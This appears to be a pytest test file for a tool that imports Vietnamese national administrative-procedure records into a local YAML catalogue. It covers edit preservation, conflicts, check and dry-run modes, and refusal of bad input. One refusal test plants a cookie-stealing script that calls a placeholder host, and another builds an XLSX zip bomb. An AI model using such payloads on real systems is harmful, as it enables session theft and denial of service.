"""``catalogue import`` as an office runs it: records written, local edits kept, drift reported, bad input refused."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from generator.cli.main import main
from generator.load.catalogue import load_catalogue
from generator.load.yamlsource import load
from generator.national.importer import Options, run
from generator.problems import CatalogueError

from ..conftest import ROOT
from .conftest import NATIONAL, TABLE, NationalProject, tree

Sources = Callable[..., Path]
TODAY = date(2026, 12, 1)


def _import(project: Path, *args: str) -> int:
    return main(["import", "--project", str(project), *args])


def _record(project: Path, code: str) -> tuple[Path, dict[str, Any]]:
    for path in (project / "procedures").rglob("*.yaml"):
        data = load(path, path.name).data
        if data.get("code") == code:
            return path, data
    raise AssertionError(f"no record {code}")


def test_first_import_writes_a_record_per_procedure_that_checks_clean(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project()
    assert _import(project, str(sources())) == 0
    out = capsys.readouterr().out
    assert "Imported 4 procedures from 5 files" in out
    assert "4 new, 0 updated, 0 unchanged" in out
    assert "1 not imported" in out and "9.000003" in out and "9.000099" in out
    catalogue = load_catalogue(project)
    codes = {p.code for p in catalogue.procedures}
    assert codes == {"1.004194", "9.000001", "9.000002", "9.000004", "9.000005"}
    assert (project / "national" / "9.000001.yaml").is_file()
    assert (project / "national" / "xem-lai.md").is_file()


def test_records_have_names_an_editor_would_choose(national_project: NationalProject, sources: Sources) -> None:
    project = national_project()
    _import(project, str(sources()))
    path, data = _record(project, "9.000001")
    assert path.relative_to(project).as_posix() == (
        "procedures/quan-ly-nganh-nghe-dau-tu-kinh-doanh-co-dieu-kien-ve-an-ninh/"  # whole words, 60 at most
        "cap-giay-chung-nhan-du-dieu-kien-ve-an-ninh-trat-tu-thuc-hien-tai-cap-tinh.yaml"
    )
    assert _record(project, "9.000005")[0].parent.name == "dang-ky-quan-ly-cu-tru"
    assert data["title"] == "Cấp giấy chứng nhận đủ điều kiện về an ninh, trật tự (thực hiện tại cấp tỉnh)"


def test_the_written_yaml_is_readable_and_marks_what_to_review(
    national_project: NationalProject, sources: Sources
) -> None:
    project = national_project()
    _import(project, str(sources()))
    path, _ = _record(project, "9.000002")
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Nhập từ Cơ sở dữ liệu quốc gia về thủ tục hành chính (national-files/9.000002.json")
    assert 'code: "9.000002"' in text
    assert "levels: [xa]" in text
    assert "\t" not in text
    # the comment stands on the line before the value it is about
    lines = text.split("\n")
    time = next(i for i, line in enumerate(lines) if line.strip() == "time: {text: Không có thông tin}")
    assert lines[time - 1].strip().startswith("#") and "«120 VNĐ»" in lines[time - 1]
    assert "# XEM LẠI: Thời hạn và phí, lệ phí viết liền nhau" in lines[time - 2]
    decision = lines.index("decision: QĐ/0001-BCA")
    assert lines[decision - 1] == "# XEM LẠI: Số quyết định công bố có vẻ là số tạm."


def test_faults_of_real_pages_are_handled_as_an_editor_would(
    national_project: NationalProject, sources: Sources
) -> None:
    project = national_project()
    _import(project, str(sources()))
    _, one = _record(project, "9.000001")
    assert one["agency"] == "Phòng Cảnh sát quản lý hành chính về trật tự xã hội"  # first name the table maps
    assert one["authority"] == "Giám đốc Công an tỉnh"
    online = next(c for c in one["channels"] if c["method"] == "online")
    assert online["time"] == {"value": "5", "unit": "working_days"}  # "5300,000 VNĐ" cut where the text says
    assert online["fees"][0]["amount"] == "300000"
    post = next(c for c in one["channels"] if c["method"] == "post")
    assert post["fees_text"] == "Mức thu do Hội đồng nhân dân tỉnh quy định"
    first, second = one["documents"]
    assert first["case"] == "Hồ sơ đề nghị cấp mới"
    assert first["items"][0] == {
        "name": "Văn bản đề nghị cấp giấy chứng nhận (Mẫu ANTT01)",
        "originals": "1",
        "note": "Mẫu đơn, tờ khai: Mau ANTT01.docx",
    }
    assert first["items"][1]["note"].startswith("Trường hợp thông tin đã có")  # the "0 bản chính" row above
    assert second["items"][0]["note"] == "Giấy tờ chứng minh việc thay đổi gồm:"  # a lead-in: the paper below
    assert one["legal_basis"][0] == {
        "number": "42/2024/QH15",
        "title": "Luật Quản lý, sử dụng vũ khí, vật liệu nổ và công cụ hỗ trợ năm 2024",
    }
    assert one["results"] == ["Giấy chứng nhận đủ điều kiện về an ninh, trật tự"]  # no interface text
    _, two = _record(project, "9.000002")
    assert two["agency"] == "Công an cấp xã"  # none on the page: the default of its level
    in_person = next(c for c in two["channels"] if c["method"] == "in_person")
    assert [fee["note"] for fee in in_person["fees"]] == ["Trường hợp xác nhận lần đầu.", "Trường hợp xác nhận lại."]
    online = next(c for c in two["channels"] if c["method"] == "online")
    assert online["fees_text"] == "120 VNĐ"  # kept word for word: 1 day and 20 đồng, or 12 days and 0?
    post = next(c for c in two["channels"] if c["method"] == "post")
    assert post["time"] == {"text": "3"}
    assert two["steps"][0].startswith("Công dân nộp hồ sơ")


def test_the_review_page_lists_each_value_to_look_at_and_each_skipped_file(
    national_project: NationalProject, sources: Sources
) -> None:
    project = national_project()
    _import(project, str(sources()))
    page = (project / "national" / "xem-lai.md").read_text(encoding="utf-8")
    assert page.startswith("# Thủ tục nhập từ Cơ sở dữ liệu quốc gia: những chỗ cần xem lại")
    assert "không đăng lên trang web" in page
    assert "### Xác nhận thông tin cư trú (thủ tục thử) (9.000002)" in page
    assert "`channels[1].time`: Thời hạn và phí, lệ phí viết liền nhau" in page
    assert "«120 VNĐ»" in page
    assert "9.000003.json`: is named 9.000003, but the page in it is procedure 9.000099" in page


def test_reimporting_unchanged_sources_changes_no_file(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project()
    folder = sources()
    _import(project, str(folder))
    before = tree(project)
    capsys.readouterr()
    assert _import(project, str(folder)) == 0
    assert tree(project) == before
    out = capsys.readouterr().out
    assert "0 new, 0 updated, 4 unchanged" in out
    assert "No file changed." in out


def test_national_changes_come_in_and_local_edits_stay(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project()
    folder = sources()
    _import(project, str(folder))
    path, _ = _record(project, "9.000005")
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "title: Đăng ký tạm trú (thủ tục thử)\n",
        "title: Đăng ký tạm trú (thủ tục thử)\n"
        "summary: Dành cho người đến ở nơi khác nơi thường trú từ 30 ngày trở lên.\n",
    )
    assert "Miễn cho trẻ em, người cao tuổi." in text
    text = text.replace("Miễn cho trẻ em, người cao tuổi.", "Miễn cho trẻ em dưới 16 tuổi.")
    path.write_text(text, encoding="utf-8")
    portal = json.loads((folder / "9.000005.json").read_text(encoding="utf-8"))
    fees = portal["data"]["executionMethods"][1]["fees"]
    fees[0]["value"] = 10000  # online fee raised nationally
    portal["data"]["decisionNo"] = "4567/QĐ-BCA-C06"
    (folder / "9.000005.json").write_text(json.dumps(portal, ensure_ascii=False), encoding="utf-8")
    capsys.readouterr()
    assert _import(project, str(folder)) == 0
    assert "1 updated, 3 unchanged" in capsys.readouterr().out
    _, data = _record(project, "9.000005")
    assert data["summary"] == "Dành cho người đến ở nơi khác nơi thường trú từ 30 ngày trở lên."
    in_person, online = data["channels"][:2]
    assert in_person["fees"][0]["note"] == "Miễn cho trẻ em dưới 16 tuổi."
    assert online["fees"][0]["amount"] == "10000"
    assert data["decision"] == "4567/QĐ-BCA-C06"
    assert data["updated"] == date.today().isoformat()
    # What changed, in words citizens read, since the day the portal says the national record changed
    assert data["change_note"] == (
        "Từ 30/11/2026: quyết định công bố 4567/QĐ-BCA-C06 (trước đây 3456/QĐ-BCA-C06); "
        "lệ phí đăng ký cư trú khi nộp trực tuyến 10.000 đồng (trước đây 7.000 đồng)."
    )


def test_a_value_both_sides_changed_is_a_conflict_and_the_local_text_stays(
    national_project: NationalProject, sources: Sources
) -> None:
    project = national_project()
    folder = sources()
    _import(project, str(folder))
    path, _ = _record(project, "9.000005")
    path.write_text(
        path.read_text(encoding="utf-8").replace("decision: 3456/QĐ-BCA-C06", "decision: 3456/QĐ-BCA"), encoding="utf-8"
    )
    portal = json.loads((folder / "9.000005.json").read_text(encoding="utf-8"))
    portal["data"]["decisionNo"] = "4567/QĐ-BCA-C06"
    (folder / "9.000005.json").write_text(json.dumps(portal, ensure_ascii=False), encoding="utf-8")
    report = run(project, [folder], Options(today=TODAY))
    outcome = next(o for o in report.outcomes if o.code == "9.000005")
    assert [(c.local, c.national) for c in outcome.conflicts] == [("3456/QĐ-BCA", "4567/QĐ-BCA-C06")]
    _, data = _record(project, "9.000005")
    assert data["decision"] == "3456/QĐ-BCA"
    baseline = load(project / "national" / "9.000005.yaml", "b").data
    assert baseline["conflicts"] == [{"path": ["decision"], "national": "4567/QĐ-BCA-C06", "local": "3456/QĐ-BCA"}]
    page = (project / "national" / "xem-lai.md").read_text(encoding="utf-8")
    assert "## Chỗ trang quốc gia và biên tập viên cùng sửa" in page and "«3456/QĐ-BCA»" in page
    # The conflict stays listed on the next import until an editor settles it.
    again = run(project, [folder], Options(today=TODAY))
    assert [c.path for o in again.outcomes for c in o.conflicts] == [("decision",)]


def test_a_record_an_editor_removed_is_not_brought_back(national_project: NationalProject, sources: Sources) -> None:
    project = national_project()
    folder = sources()
    _import(project, str(folder))
    path, _ = _record(project, "9.000004")
    path.unlink()
    report = run(project, [folder], Options(today=TODAY))
    assert [o.status for o in report.outcomes if o.code == "9.000004"] == ["deleted"]
    assert not any(p for p in (project / "procedures").rglob("*.yaml") if "con-dau" in p.name)


def test_dry_run_writes_nothing_and_says_what_would_change(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project()
    before = tree(project)
    assert _import(project, str(sources()), "--dry-run") == 0
    assert tree(project) == before
    out = capsys.readouterr().out
    assert "Would import 4 procedures" in out and "Would write 9 files" in out


def test_levels_keeps_what_a_province_publishes(national_project: NationalProject, sources: Sources) -> None:
    project = national_project()
    report = run(project, [sources()], Options(levels=("tinh",), today=TODAY))
    assert sorted(o.code for o in report.outcomes) == ["9.000001", "9.000004"]
    assert report.left_out == 2
    assert _import(project, str(sources()), "--levels", "tinh,huyen") == 1


def test_check_lists_each_field_that_differs_and_exits_1(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project()
    folder = sources()
    _import(project, str(folder))
    capsys.readouterr()
    assert _import(project, "--check", str(folder)) == 0
    assert "All 4 procedures match the national records." in capsys.readouterr().out
    portal = json.loads((folder / "9.000005.json").read_text(encoding="utf-8"))
    data = portal["data"]
    data["executionMethods"][0]["fees"][0]["value"] = 20000
    data["decisionNo"] = "4567/QĐ-BCA-C06"
    data["executionCases"][0]["profileComponents"].append(
        {"name": "Giấy tờ chứng minh quan hệ nhân thân", "originalQty": 0, "copyQty": 1}
    )
    data["legalBasisesDetails"][1] = {"code": "53/2025/TT-BCA", "name": "Thông tư sửa đổi Thông tư 55/2021/TT-BCA"}
    (folder / "9.000005.json").write_text(json.dumps(portal, ensure_ascii=False), encoding="utf-8")
    before = tree(project)
    assert _import(project, "--check", str(folder)) == 1
    assert tree(project) == before
    out = capsys.readouterr().out
    assert "9.000005 Đăng ký tạm trú (thủ tục thử)" in out
    assert "channels[method=in_person].fees[name=Lệ phí đăng ký cư trú].amount: 15.000 đồng → 20.000 đồng" in out
    assert "decision: 3456/QĐ-BCA-C06 → 4567/QĐ-BCA-C06" in out
    assert "documents[case=Tạm trú tại chỗ ở hợp pháp].items: paper added: Giấy tờ chứng minh quan hệ nhân thân" in out
    assert "legal_basis: legal document replaced: 55/2021/TT-BCA Thông tư quy định chi tiết Luật Cư trú → " in out
    assert "1 of 4 procedures differ from the national records." in out


def test_unmapped_agencies_are_one_message_with_the_lines_to_add(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    project = national_project(table="")
    before = tree(project)
    assert _import(project, str(sources())) == 1
    assert tree(project) == before
    err = capsys.readouterr().err
    assert err.count("extra.catalogue.national") == 1
    assert "3 national agency names (3 records) are not in the agency table" in err
    assert '        "Công an tỉnh": ""    # 2 records' in err
    assert '        "Công an cấp Xã": ""    # 1 record' in err
    assert '        "Cục Cảnh sát quản lý hành chính về trật tự xã hội": ""    # 1 record' in err
    assert '        xa: ""    # 1 record name no agency' in err


# --- bad input: each a message naming the file, exit 1, nothing written ----------------------------------


def _refused(project: Path, folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    before = tree(project)
    assert _import(project, str(folder)) == 1
    assert tree(project) == before
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert "nothing was written" in err
    return err


def test_malformed_json_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    (folder / "9.000006.json").write_text('{"ma_thu_tuc": "9.000006", "ten_thu_tuc": "Thử" "x"}', encoding="utf-8")
    err = _refused(national_project(), folder, capsys)
    assert re.search(r"national-files/9\.000006\.json:1:\d+: invalid JSON: Expecting ',' delimiter", err)


def test_truncated_json_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    text = (folder / "9.000001.json").read_text(encoding="utf-8")
    (folder / "9.000001.json").write_text(text[: len(text) // 2], encoding="utf-8")
    err = _refused(national_project(), folder, capsys)
    assert "national-files/9.000001.json:" in err
    assert "the file ends before its JSON does (cut short while saving?)" in err


def test_a_wrong_encoding_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    text = (folder / "9.000002.json").read_text(encoding="utf-8")
    (folder / "9.000002.json").write_bytes(text.encode("cp1258", errors="replace"))
    err = _refused(national_project(), folder, capsys)
    assert "national-files/9.000002.json:" in err and "is not UTF-8" in err and "save the file as UTF-8" in err


def test_a_utf16_file_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    text = (folder / "9.000002.json").read_text(encoding="utf-8")
    (folder / "9.000002.json").write_bytes(text.encode("utf-16"))
    assert "national-files/9.000002.json: is saved as UTF-16; save it as UTF-8" in _refused(
        national_project(), folder, capsys
    )


def test_a_50_mb_file_is_refused_unread(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    with (folder / "9.000007.json").open("wb") as file:
        file.truncate(50 * 1024 * 1024)  # sparse: 50 MB that take no disk
    err = _refused(national_project(), folder, capsys)
    assert "national-files/9.000007.json: is 50.0 MB; a national procedure record is under 4 MB" in err


def test_an_xlsx_zip_bomb_is_refused_unopened(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    with zipfile.ZipFile(folder / "danh-sach.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (120 * 1024 * 1024))
    err = _refused(national_project(), folder, capsys)
    assert "national-files/danh-sach.xlsx: unpacks to 120 MB" not in err  # under the total bound: the ratio says
    assert "national-files/danh-sach.xlsx: part xl/worksheets/sheet1.xml unpacks" in err and "zip bomb" in err


def test_html_with_a_script_in_the_procedure_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    page = (NATIONAL / "html" / "9.000004.html").read_text(encoding="utf-8")
    page = page.replace("<p>Bước 2:", '<script>fetch("https://example.invalid/?c="+document.cookie)</script><p>Bước 2:')
    (folder / "9.000004.html").write_text(page, encoding="utf-8")
    err = _refused(national_project(), folder, capsys)
    assert "national-files/9.000004.html: trinh_tu_thuc_hien: holds <script>, which runs code" in err


def test_two_files_with_the_same_code_are_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    (folder / "copy-of-9.000001.json").write_bytes((folder / "9.000001.json").read_bytes())
    err = _refused(national_project(), folder, capsys)
    assert "national-files/9.000001.json: holds procedure 9.000001, as does national-files/copy-of-9.000001.json" in err
    assert "national-files/copy-of-9.000001.json: holds procedure 9.000001, as does national-files/9.000001.json" in err


def test_a_file_of_another_shape_is_refused(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sources()
    (folder / "settings.json").write_text('{"theme": "dark"}', encoding="utf-8")
    err = _refused(national_project(), folder, capsys)
    assert "national-files/settings.json: is neither the procedure page by section" in err


def test_a_second_import_at_once_is_refused(
    national_project: NationalProject, sources: Sources, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fcntl
    import os

    project = national_project()
    (project / ".catalogue").mkdir(exist_ok=True)
    fd = os.open(project / ".catalogue" / "import.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        with pytest.raises(CatalogueError, match="another import of this catalogue is running"):
            run(project, [sources()], Options(today=TODAY))
    finally:
        os.close(fd)


def test_a_catalogue_with_a_commune_table_imports(
    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
) -> None:
    """The import checks the whole catalogue in a staged copy: the commune table goes there too."""
    table = (ROOT / "communes" / "quang-ngai.csv").read_text(encoding="utf-8")
    project = national_project(
        {"communes/quang-ngai.csv": table}, table=TABLE + "    communes_table: communes/quang-ngai.csv\n"
    )
    load_catalogue(project)  # the table is known and well formed before the import
    assert _import(project, str(sources())) == 0, capsys.readouterr().err
    assert "9.000001" in {p.code for p in load_catalogue(project).procedures}
